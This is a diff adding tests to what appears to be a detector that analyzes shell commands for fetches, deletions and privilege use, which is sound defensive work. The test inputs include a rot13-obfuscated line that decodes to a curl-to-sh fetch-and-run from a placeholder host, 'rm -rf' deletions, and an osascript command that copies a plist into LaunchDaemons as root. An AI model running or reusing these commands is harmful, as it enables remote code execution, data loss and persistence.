@@ -264,6 +264,18 @@ describe("reads, writes, deletions, privilege", () => {
   });
 });
 
+describe("what commands print", () => {
+  it("a shell function's output is its body's, fed the pipe (`printf … | rot13`)", () => {
+    const c = run(`r13() { tr 'A-Za-z' 'N-ZA-Mn-za-m'; }\nX='phey uggcf://k.vainyvq/c | fu'\neval "$(printf '%s' "$X" | r13)"`);
+    expect(of(c, "exec").map((e) => e.fetched)).toContain("https://x.invalid/p");
+  });
+
+  it("a standard-error redirect leaves standard output in the substitution", () => {
+    const c = run(`d=$(echo /tmp/build 2>/dev/null)\nrm -rf "$d"\ne=$(echo / >/dev/null)\nrm -rf "$e/x"`);
+    expect(of(c, "delete").map((d) => d.path)).toEqual(["/tmp/build", "/x"]);
+  });
+});
+
 describe("commands run by other programs", () => {
   it("AppleScript's do shell script runs its string in sh, as root with administrator privileges", () => {
     const c = run(`osascript -e "do shell script \\"cp /tmp/x.plist /Library/LaunchDaemons/com.x.plist\\" with administrator privileges"`);
